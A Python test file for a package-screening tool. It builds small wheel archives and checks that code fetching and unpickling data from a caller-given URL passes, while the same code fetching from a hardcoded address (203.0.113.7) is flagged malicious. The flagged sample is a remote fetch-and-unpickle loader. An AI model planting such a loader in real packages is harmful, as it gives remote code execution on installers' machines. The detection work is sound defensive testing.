"""What only a user calls is a library's business, unless the place is the package's own and hidden."""

from __future__ import annotations

import io
import zipfile

from pratique.screen import screen_bytes
from pratique.verdict import Verdict

_READ = (
    "import gzip, pickle, urllib.request\ndef read({parameter}):\n"
    "    return pickle.loads(gzip.decompress(urllib.request.urlopen({place}).read()))\n"
)


def _verdict(source: str) -> Verdict:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as wheel:
        wheel.writestr("pkg/__init__.py", source)
    return screen_bytes(buffer.getvalue(), filename="pkg-1.0-py3-none-any.whl").verdict


def test_a_packed_object_from_wherever_the_caller_says_is_no_hiding() -> None:
    """Readers of packed data unpack what they fetch; the caller chose the place."""
    assert _verdict(_READ.format(parameter="url", place="url")) is Verdict.CLEAN


def test_a_packed_object_from_a_raw_address_in_the_code_is_stopped() -> None:
    """The same, where the package itself says from where, and nobody can be held to account."""
    source = _READ.format(parameter="", place="'http://203.0.113.7/a'")
    assert _verdict(source) is Verdict.MALICIOUS
